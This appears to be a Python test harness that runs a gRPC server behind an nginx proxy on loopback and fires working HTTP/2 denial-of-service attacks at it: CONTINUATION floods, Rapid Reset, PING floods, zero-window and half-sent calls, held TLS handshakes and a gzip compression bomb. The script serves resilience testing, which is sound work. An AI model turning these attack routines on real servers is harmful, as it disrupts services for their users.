"""The front proxy (deploy/proxy/nginx.conf, nginx from Debian's packages) in front of
`handeval serve` on loopback, and the HTTP/2 attacks of issue 38 aimed through it: used by
tests/grpc/test_proxy.py and benches/bench_proxy.py, and by hand:

    python scripts/edge_proxy.py check                 # nginx -t: the shipped config, as shipped and as run here
    python scripts/edge_proxy.py run [--tls] [-- FLAGS] # handeval serve + the proxy, until Ctrl-C
    python scripts/edge_proxy.py configmap              # writes deploy/k8s/proxy-config.yaml from the config
    python scripts/edge_proxy.py attack NAME TARGET [--seconds S]  # one attack, in a process of its own

The config runs here as shipped but for what a test machine needs: its ports become free
loopback ports (the proxy listens on 127.0.0.1 only), its /tmp paths a directory of its
own, and with ``tls`` the commented TLS lines are used (a certificate made here). Every
rewrite must match the shipped file exactly once, so a config that drifts from what is
tested fails here rather than being run half-rewritten.

An attack is ``def attack(target: str, stop: threading.Event) -> None`` (as in
scripts/slow_peers.py): it attacks the proxy at ``target`` from the attacker's loopback
address until ``stop`` is set; every loop is bounded by ``stop`` and by a count.
"""

from __future__ import annotations

import argparse
import gzip
import ipaddress
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Callable, Dict, List, Optional, Tuple

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from handeval.load.h2raw import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    RawConnection,
    call_headers,
    frame,
    header_block,
)
from handeval.load.target import free_port, rss_mb
from handeval.v2 import common_pb2, handeval_pb2 as pb, shisanshui_pb2 as ssw

ROOT = Path(__file__).resolve().parent.parent
CONFIG = ROOT / "deploy" / "proxy" / "nginx.conf"
CONTINUATION = 0x9
CANCEL = 0x8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
EVALUATE = "/handeval.v2.Handeval/Evaluate"
#: The attackers' source address (as scripts/slow_peers.py's): not the probes' 127.0.0.1.
ATTACKER = "127.0.0.2"
#: The shipped config's ports and what they are (the server's are loopback-only).
SHIPPED_PORTS = {"grpc": 50051, "probe": 8081, "metrics": 9100, "server": 50052, "server_metrics": 9101}


CONFIGMAP = ROOT / "deploy" / "k8s" / "proxy-config.yaml"


def configmap_text(config: Optional[str] = None) -> str:
    """deploy/k8s/proxy-config.yaml: the ConfigMap that carries deploy/proxy/nginx.conf
    into the pod, byte for byte (tests/deploy/test_manifests.py checks it is current)."""
    body = CONFIG.read_text() if config is None else config
    lines = "".join(("    " + line).rstrip() + "\n" for line in body.splitlines())
    return (
        "# The front proxy's config in the pod (mounted at /etc/handeval-proxy by deployment.yaml).\n"
        "# Generated from deploy/proxy/nginx.conf, its only source: edit that file, then run\n"
        "#   python scripts/edge_proxy.py configmap\n"
        "apiVersion: v1\n"
        "kind: ConfigMap\n"
        "metadata:\n"
        "  name: handeval-proxy\n"
        "  labels: {app: handeval}\n"
        "data:\n"
        "  nginx.conf: |\n" + lines
    )


def nginx_binary() -> Optional[str]:
    """The nginx binary (Debian installs it in /usr/sbin), or None."""
    return shutil.which("nginx") or next((p for p in ("/usr/sbin/nginx",) if os.access(p, os.X_OK)), None)


def nginx_version(binary: str) -> str:
    out = subprocess.run([binary, "-v"], capture_output=True, text=True, timeout=30)
    return (out.stderr or out.stdout).strip().rpartition("/")[2]


def _once(text: str, old: str, new: str) -> str:
    if text.count(old) != 1:
        raise ValueError(f"deploy/proxy/nginx.conf: expected {old!r} exactly once, found {text.count(old)}")
    return text.replace(old, new)


#: The Unix socket between the stream{} listener and the http one, as shipped.
GRPC_SOCKET = "unix:/tmp/nginx-grpc.sock"


def render(
    ports: Dict[str, int],
    prefix: Path,
    tls: Optional[Tuple[Path, Path]] = None,
    text: Optional[str] = None,
    grpc_socket: Optional[Path] = None,
) -> str:
    """The shipped config for this machine: ``ports`` (keys of :data:`SHIPPED_PORTS`),
    listeners on 127.0.0.1, /tmp paths under ``prefix`` (the Unix socket between the
    stream{} and http listeners at ``grpc_socket`` if given); ``tls`` = (cert, key): the
    commented TLS lines instead of the h2c listener."""
    s = CONFIG.read_text() if text is None else text
    p = {**SHIPPED_PORTS, **ports}
    if "/tmp/" not in s:
        raise ValueError("deploy/proxy/nginx.conf: no /tmp paths")
    # the listener, the stream{} block's proxy_pass and the commented TLS listener
    if s.count(GRPC_SOCKET) != 3:
        raise ValueError(f"deploy/proxy/nginx.conf: expected {GRPC_SOCKET} 3 times, found {s.count(GRPC_SOCKET)}")
    s = s.replace("/tmp/", f"{prefix}/")
    moved = GRPC_SOCKET.replace("/tmp/", f"{prefix}/")
    sock = f"unix:{grpc_socket}" if grpc_socket else moved
    s = s.replace(moved, sock)
    if tls:
        s = _once(s, f"        listen {sock} proxy_protocol http2;\n", "")
        lines = re.search(
            rf"(?m)^        #   listen {re.escape(sock)} proxy_protocol ssl http2;\n(?:        #   .*\n)+", s
        )
        if lines is None:
            raise ValueError("deploy/proxy/nginx.conf: the commented TLS lines are missing")
        block = lines.group(0).replace("        #   ", "        ")
        block = _once(block, "/etc/handeval-tls/tls.crt", str(tls[0]))
        block = _once(block, "/etc/handeval-tls/tls.key", str(tls[1]))
        s = s.replace(lines.group(0), block)
    # the stream{} listener, which clients connect to (the http one is its Unix socket)
    s = _once(s, "listen 50051;", f"listen 127.0.0.1:{p['grpc']};")
    s = _once(s, "listen 8081 http2;", f"listen 127.0.0.1:{p['probe']} http2;")
    s = _once(s, "listen 9100;", f"listen 127.0.0.1:{p['metrics']};")
    s = _once(s, "server 127.0.0.1:50052 ", f"server 127.0.0.1:{p['server']} ")
    s = _once(s, "http://127.0.0.1:9101;", f"http://127.0.0.1:{p['server_metrics']};")
    return s


def check_config(binary: str, path: Path) -> subprocess.CompletedProcess:
    """``nginx -t`` over ``path``."""
    return subprocess.run(
        [binary, "-t", "-q", "-c", str(path), "-e", "stderr"], capture_output=True, text=True, timeout=60
    )


def make_certificate(directory: Path) -> Tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1 / localhost (openssl), for the TLS runs."""
    cert, key = directory / "proxy.crt", directory / "proxy.key"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost",
         "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1", "-keyout", str(key), "-out", str(cert)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return cert, key


def tree_rss_mb(pid: int) -> float:
    """RSS of ``pid`` and its children (nginx's master and its worker), MiB."""
    total = rss_mb(pid)
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            kids = [int(k) for k in f.read().split()]
    except OSError:
        kids = []
    return total + sum(rss_mb(k) for k in kids)


def served(target: str, credentials=None, timeout: float = 1.0) -> bool:
    opts = [("grpc.use_local_subchannel_pool", 1)]
    ch = grpc.secure_channel(target, credentials, options=opts) if credentials else grpc.insecure_channel(target, opts)
    with ch:
        try:
            r = health_pb2_grpc.HealthStub(ch).Check(health_pb2.HealthCheckRequest(), timeout=timeout)
            return r.status == health_pb2.HealthCheckResponse.SERVING
        except grpc.RpcError:
            return False


class Edge:
    """``handeval serve`` on a loopback port with the proxy in front of it, as in the pod:
    ``target`` is the proxy's gRPC listener, ``probe_target`` its health-only one,
    ``server_target`` the server itself. Logs in ``directory``. ``close()`` stops both."""

    def __init__(
        self,
        directory: Path,
        *serve_args: str,
        tls: bool = False,
        edits: Optional[Dict[str, str]] = None,
        start_timeout: float = 60.0,
    ):
        """``edits``: text of the shipped config to replace (each must occur once), for a
        test that needs one setting changed."""
        binary = nginx_binary()
        if binary is None:
            raise RuntimeError("nginx is not installed (apt-get install nginx)")
        self.directory = Path(directory)
        self.ports = {k: free_port() for k in SHIPPED_PORTS}
        self.target = f"127.0.0.1:{self.ports['grpc']}"
        self.probe_target = f"127.0.0.1:{self.ports['probe']}"
        self.server_target = f"127.0.0.1:{self.ports['server']}"
        self.metrics_url = f"http://127.0.0.1:{self.ports['metrics']}/metrics"
        self.tls = make_certificate(self.directory) if tls else None
        self.credentials = grpc.ssl_channel_credentials(self.tls[0].read_bytes()) if self.tls else None
        prefix = self.directory / "nginx"
        prefix.mkdir(exist_ok=True)
        os.chmod(prefix, 0o777)  # run as root, nginx's worker is "nobody"
        # the worker connects to the stream{} block's Unix socket: in a directory it can
        # reach (``directory`` may be private to root), with a short path (108 bytes at most)
        self.socket_directory = Path(tempfile.mkdtemp(prefix="handeval-proxy-"))
        os.chmod(self.socket_directory, 0o755)
        self.config = self.directory / "nginx.conf"
        text = CONFIG.read_text()
        for before, after in (edits or {}).items():
            text = _once(text, before, after)
        self.config.write_text(render(self.ports, prefix, self.tls, text, self.socket_directory / "grpc.sock"))
        self.server_log = self.directory / "server.log"
        self.proxy_log = self.directory / "proxy.log"
        self._logs = [open(self.server_log, "wb"), open(self.proxy_log, "wb")]
        # every call reaches the server from the proxy's address: its per-address limit
        # is the proxy's job (deploy/k8s/deployment.yaml sets the same)
        self.server = subprocess.Popen(
            [sys.executable, "-m", "handeval", "serve", "--port", str(self.ports["server"]),
             "--metrics-port", str(self.ports["server_metrics"]), "--max-calls-per-peer", "0", *serve_args],
            stdout=self._logs[0], stderr=subprocess.STDOUT,
        )  # fmt: skip
        self.proxy = subprocess.Popen(
            [binary, "-c", str(self.config), "-e", "stderr"], stdout=self._logs[1], stderr=subprocess.STDOUT
        )
        deadline = time.monotonic() + start_timeout
        try:
            while not served(self.target, self.credentials):
                for name, proc in (("server", self.server), ("proxy", self.proxy)):
                    if proc.poll() is not None:
                        raise RuntimeError(f"the {name} exited with {proc.returncode}:\n{self.logs()}")
                if time.monotonic() > deadline:
                    raise RuntimeError(f"not served through the proxy after {start_timeout} s:\n{self.logs()}")
                time.sleep(0.1)
        except BaseException:
            self.close()
            raise

    def channel(self, options=()):
        opts = [("grpc.use_local_subchannel_pool", 1), *options]
        if self.credentials:
            # the certificate names localhost; the target is the IP
            return grpc.secure_channel(
                self.target, self.credentials, opts + [("grpc.ssl_target_name_override", "localhost")]
            )
        return grpc.insecure_channel(self.target, opts)

    def logs(self) -> str:
        return (
            f"--- server log\n{self.server_log.read_text(errors='replace')[-3000:]}\n"
            f"--- proxy log\n{self.proxy_log.read_text(errors='replace')[-3000:]}"
        )

    def log(self) -> str:
        """Both logs' tails (what a failing test's ``wait_for(..., server=edge)`` shows)."""
        return self.logs()

    def log_lines(self) -> Tuple[int, int]:
        """Lines in the server's log and in the proxy's."""
        return tuple(sum(1 for _ in open(p, "rb")) for p in (self.server_log, self.proxy_log))

    def rss(self) -> Tuple[float, float]:
        """RSS of the server and of the proxy (master + worker), MiB."""
        return rss_mb(self.server.pid), tree_rss_mb(self.proxy.pid)

    def close(self) -> None:
        for proc, sig in ((self.proxy, signal.SIGQUIT), (self.server, signal.SIGTERM)):
            if proc.poll() is None:
                proc.send_signal(sig)
        for proc in (self.proxy, self.server):
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        for f in self._logs:
            f.close()
        shutil.rmtree(self.socket_directory, ignore_errors=True)


# ---- the attacks (through the proxy)


def _host_port(target: str) -> Tuple[str, int]:
    host, _, port = target.rpartition(":")
    return host, int(port)


def _connect(target: str, source: str = ATTACKER) -> Optional[RawConnection]:
    host, port = _host_port(target)
    try:
        c = RawConnection(host, port, source=source)
    except OSError:
        return None
    # its reader waits for the proxy as long as an attack lasts: ``closed`` is the proxy
    # closing it, not the reader giving up after the connect timeout
    c.sock.settimeout(120)
    settled(c)
    return c


def settled(c: RawConnection, timeout: float = 10.0) -> bool:
    """Wait until the proxy's SETTINGS are acknowledged (its connection WINDOW_UPDATE,
    which follows them, has arrived; the reader acknowledges SETTINGS as it reads them):
    with http2_body_preread_size below 64 KiB nginx refuses a stream that carries a body
    before that (REFUSED_STREAM), so an attacker that waits is the stronger one."""
    with c._credit:
        return c._credit.wait_for(lambda: c.credit > 65535 or c.closed.is_set(), timeout)


def continuation_frames(stream: int, authority: str, frames: int, size: int = 8192, headers: bool = True) -> bytes:
    """A call's HEADERS without END_HEADERS (``headers``), then ``frames`` CONTINUATION
    frames of ``size`` bytes of header fields each, none of them ending the header block."""
    out = bytearray()
    if headers:
        out += frame(HEADERS, 0, stream, header_block([(":method", "POST"), (":scheme", "http"), (":path", EVALUATE),
                                                       (":authority", authority), ("content-type", "application/grpc")]))  # fmt: skip
    junk = header_block([("x-flood", "a" * (size - 16))])
    for _ in range(frames):
        out += frame(CONTINUATION, 0, stream, junk)
    return bytes(out)


def _flood(
    target: str, stop: threading.Event, connections: int, burst: Callable[[RawConnection], bytes], limit: int
) -> None:
    """``connections`` attacker connections, each sent ``burst(conn)`` again and again until
    ``stop`` (at most ``limit`` bursts in all); a connection the proxy closed is opened again."""
    conns: List[Optional[RawConnection]] = [None] * connections
    sent = 0
    while not stop.is_set() and sent < limit:
        for i in range(connections):
            c = conns[i]
            if c is None or c.closed.is_set() or c.goaway:
                if c is not None:
                    c.close()
                c = conns[i] = _connect(target)
                if c is None:
                    stop.wait(0.01)
                    continue
            if not c.send(burst(c)):
                c.close()
                conns[i] = None
            sent += 1
    for c in conns:
        if c is not None:
            c.close()


def attack_continuation_flood(target: str, stop: threading.Event, limit: int = 1_000_000) -> None:
    """4 connections: HEADERS without END_HEADERS, then CONTINUATION frames without end
    (8 KiB of header fields each, 32 per burst) for as long as the connection stays open."""

    def burst(c: RawConnection) -> bytes:
        if not hasattr(c, "flood_stream"):
            c.flood_stream = c.next_stream
            c.next_stream += 2
            return continuation_frames(c.flood_stream, c.authority, 32)
        return continuation_frames(c.flood_stream, c.authority, 32, headers=False)

    _flood(target, stop, 4, burst, limit)


def rapid_reset_burst(c: RawConnection, n: int = 100) -> bytes:
    """``n`` calls' HEADERS, each followed at once by RST_STREAM (CANCEL)."""
    out = bytearray()
    for _ in range(n):
        s = c.next_stream
        c.next_stream += 2
        out += call_headers(s, EVALUATE, c.authority) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
    return bytes(out)


def attack_rapid_reset(target: str, stop: threading.Event, limit: int = 1_000_000) -> None:
    """20 connections: HEADERS then RST_STREAM, in bursts of 100, reconnecting after GOAWAY."""
    _flood(target, stop, 20, rapid_reset_burst, limit)


def attack_ping_flood(target: str, stop: threading.Event, limit: int = 1_000_000) -> None:
    """4 connections: PING frames in bursts of 100, reconnecting when closed."""
    _flood(target, stop, 4, lambda c: frame(PING, 0, 0, b"\0" * 8) * 100, limit)


#: Rows of the Evaluate whose answer is never read: the request (7,688 bytes) fits one
#: stream's receive window at the proxy (http2_body_preread_size, 8 KiB: a larger one
#: sent whole breaks HTTP/2 flow control and is reset), the answer is about 3 times as large.
ROWS = 480


def big_answer_request() -> bytes:
    """An Evaluate of :data:`ROWS` three-card rows as one gRPC message (uncompressed: the
    proxy refuses compressed requests)."""
    row = ssw.ShisanshuiEvaluateItem(row=common_pb2.Cards(cards="As Ks Qs".split()))
    msg = pb.EvaluateRequest(shisanshui=ssw.ShisanshuiEvaluateRequest(items=[row] * ROWS)).SerializeToString()
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def compressed_call_headers(stream: int, authority: str) -> bytes:
    block = header_block(
        [(":method", "POST"), (":scheme", "http"), (":path", EVALUATE), (":authority", authority),
         ("content-type", "application/grpc"), ("te", "trailers"), ("grpc-encoding", "gzip")]
    )  # fmt: skip
    return frame(HEADERS, END_HEADERS, stream, block)


def whole_call(stream: int, authority: str, message: bytes, compressed: bool = False) -> bytes:
    """A call's HEADERS and its whole request in DATA frames of at most 16 KiB."""
    out = bytearray(
        compressed_call_headers(stream, authority) if compressed else call_headers(stream, EVALUATE, authority)
    )
    chunks = [message[i : i + 16384] for i in range(0, len(message), 16384)]
    for i, chunk in enumerate(chunks):
        out += frame(DATA, END_STREAM if i == len(chunks) - 1 else 0, stream, chunk)
    return bytes(out)


def open_unread_calls(c: RawConnection, calls: int, request: bytes) -> None:
    """Stream windows 0 (SETTINGS_INITIAL_WINDOW_SIZE = 0: no answer byte may be sent),
    then ``calls`` whole calls asking big answers."""
    out = bytearray(frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    for _ in range(calls):
        s = c.next_stream
        c.next_stream += 2
        out += whole_call(s, c.authority, request)
    c.send(bytes(out))


def attack_unread_answers(target: str, stop: threading.Event, limit: int = 100_000, addresses: int = 4) -> None:
    """``addresses`` loopback addresses × 20 connections that never read their answers
    (window 0), 16 calls of :data:`ROWS` rows each; every 2 s the closed ones are opened again."""
    request = big_answer_request()
    conns: List[RawConnection] = []
    opened = 0
    while not stop.is_set() and opened < limit:
        conns = [c for c in conns if not c.closed.is_set() or c.close()]
        for a in range(addresses):
            for _ in range(20 - sum(1 for c in conns if c.source == f"127.0.1.{a + 2}")):
                c = _connect(target, source=f"127.0.1.{a + 2}")
                if c is None:
                    continue
                c.source = f"127.0.1.{a + 2}"
                open_unread_calls(c, 16, request)
                conns.append(c)
                opened += 1
        stop.wait(2.0)
    for c in conns:
        c.close()


def attack_half_sent_many_addresses(target: str, stop: threading.Event, limit: int = 100_000) -> None:
    """59 loopback addresses × 2 connections × 16 calls that send their HEADERS and 10 of
    their 1,000 request bytes; every 2 s the ended ones are opened again."""
    conns: Dict[Tuple[int, int], RawConnection] = {}
    sent: Dict[Tuple[int, int], int] = {}
    opened = 0
    while not stop.is_set() and opened < limit:
        for a in range(59):
            for k in range(2):
                if stop.is_set():
                    break
                key = (a, k)
                c = conns.get(key)
                if c is None or c.closed.is_set() or c.goaway:
                    if c is not None:
                        c.close()
                    c = _connect(target, source=f"127.0.2.{a + 2}")
                    if c is None:
                        continue
                    conns[key], sent[key] = c, 0
                missing = 16 - (sent[key] - len(c.ended))
                if missing > 0:
                    sent[key] += c.open_slow_calls(missing, EVALUATE)
                    opened += missing
        stop.wait(2.0)
    for c in conns.values():
        c.close()


def partial_client_hello() -> bytes:
    """The first bytes of a TLS ClientHello record: a handshake the peer never finishes."""
    return bytes((0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03)) + os.urandom(16)


def attack_held_tls_handshakes(target: str, stop: threading.Event, sockets: int = 1200) -> None:
    """``sockets`` connections that each send part of a ClientHello and nothing more; the
    ones the proxy closed are opened again every second."""
    host, port = _host_port(target)
    held: List[socket.socket] = []
    while not stop.is_set():
        held = [s for s in held if not _closed(s) or s.close()]
        for _ in range(sockets - len(held)):
            if stop.is_set():
                break
            try:
                s = socket.socket()
                s.bind((ATTACKER, 0))
                s.settimeout(5)
                s.connect((host, port))
                s.sendall(partial_client_hello())
                held.append(s)
            except OSError:
                s.close()
        stop.wait(1.0)
    for s in held:
        s.close()


def _closed(s: socket.socket) -> bool:
    from handeval.load.target import closed_by_peer

    return closed_by_peer(s)


def bomb_request(inflated: int = 48 << 20) -> bytes:
    """A gzip gRPC message of ``inflated`` zero bytes (about 1/1000 of it sent)."""
    body = gzip.compress(b"\0" * inflated, 9)
    return b"\x01" + struct.pack(">I", len(body)) + body


def send_bomb(c: RawConnection, request: bytes) -> int:
    """One gzip call carrying ``request``; its stream."""
    s = c.next_stream
    c.next_stream += 2
    c.send(whole_call(s, c.authority, request, compressed=True))
    return s


def attack_compression_bomb(target: str, stop: threading.Event, limit: int = 10_000) -> None:
    """Calls whose gzip request inflates to 48 MiB (about 48 KB sent), 4 in flight at a
    time, back to back."""
    request = bomb_request()
    sent = 0
    while not stop.is_set() and sent < limit:
        c = _connect(target)
        if c is None:
            stop.wait(0.05)
            continue
        streams = [send_bomb(c, request) for _ in range(4)]
        sent += 4
        t = time.monotonic()
        while not stop.is_set() and not c.closed.is_set() and not set(streams) <= c.ended and time.monotonic() - t < 10:
            stop.wait(0.01)
        c.close()


#: (name, attack, needs TLS at the proxy)
ATTACKS: List[Tuple[str, Callable[[str, threading.Event], None], bool]] = [
    ("continuation_flood", attack_continuation_flood, False),
    ("rapid_reset", attack_rapid_reset, False),
    ("ping_flood", attack_ping_flood, False),
    ("unread_answers", attack_unread_answers, False),
    ("half_sent_many_addresses", attack_half_sent_many_addresses, False),
    ("compression_bomb", attack_compression_bomb, False),
    ("held_tls_handshakes", attack_held_tls_handshakes, True),
]


def addresses_bindable() -> bool:
    """Whether this machine's loopback takes the attackers' addresses (Linux: all of 127/8)."""
    try:
        with socket.socket() as s:
            s.bind(("127.0.2.60", 0))
        return True
    except OSError:
        return False


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0], epilog="extra `handeval serve` flags go after --")
    p.add_argument("what", choices=("check", "run", "configmap", "attack"))
    p.add_argument("name", nargs="?", help="attack: which (" + ", ".join(n for n, _, _ in ATTACKS) + ")")
    p.add_argument("target", nargs="?", help="attack: the proxy, host:port on loopback")
    p.add_argument("--seconds", type=float, default=60.0, help="attack: stop after this long at most (or at SIGTERM)")
    p.add_argument("--tls", action="store_true", help="run: TLS at the proxy (a self-signed certificate)")
    argv = sys.argv[1:]
    serve_args = argv[argv.index("--") + 1 :] if "--" in argv else []
    a = p.parse_args(argv[: len(argv) - len(serve_args) - (1 if "--" in argv else 0)])
    if a.what == "attack":
        # the attacker in a process of its own (as a real one is on another machine): its
        # CPU and GIL are not the probing client's
        attack = {n: f for n, f, _ in ATTACKS}[a.name]
        if not ipaddress.ip_address(_host_port(a.target)[0]).is_loopback:
            raise SystemExit(f"{a.target}: not a loopback address")
        stop = threading.Event()
        signal.signal(signal.SIGTERM, lambda *_: stop.set())
        timer = threading.Timer(a.seconds, stop.set)
        timer.daemon = True
        timer.start()
        attack(a.target, stop)
        return 0
    if a.what == "configmap":
        CONFIGMAP.write_text(configmap_text())
        print(f"wrote {CONFIGMAP.relative_to(ROOT)}")
        return 0
    binary = nginx_binary()
    if binary is None:
        print("nginx is not installed: apt-get install nginx (Debian 12: 1.22.1)", file=sys.stderr)
        return 2
    if a.what == "check":
        with tempfile.TemporaryDirectory() as d:
            rendered = Path(d) / "nginx.conf"
            status = 0
            for label, text in (
                ("shipped", CONFIG.read_text().replace("/tmp/", f"{d}/")),
                ("as run here", render({k: free_port() for k in SHIPPED_PORTS}, Path(d))),
                (
                    "as run here, TLS",
                    render({k: free_port() for k in SHIPPED_PORTS}, Path(d), make_certificate(Path(d))),
                ),
            ):
                rendered.write_text(text)
                r = check_config(binary, rendered)
                print(f"nginx {nginx_version(binary)} -t ({label}): {'ok' if r.returncode == 0 else 'FAILED'}")
                if r.returncode:
                    print(r.stderr, file=sys.stderr)
                    status = 1
            return status
    with tempfile.TemporaryDirectory() as d:
        edge = Edge(Path(d), *serve_args, tls=a.tls)
        try:
            print(f"proxy: {edge.target}{' (TLS)' if a.tls else ''}, probes: {edge.probe_target}, "
                  f"metrics: {edge.metrics_url}; server: {edge.server_target}. Ctrl-C stops both.", flush=True)  # fmt: skip
            signal.sigwait({signal.SIGINT, signal.SIGTERM})
        finally:
            edge.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
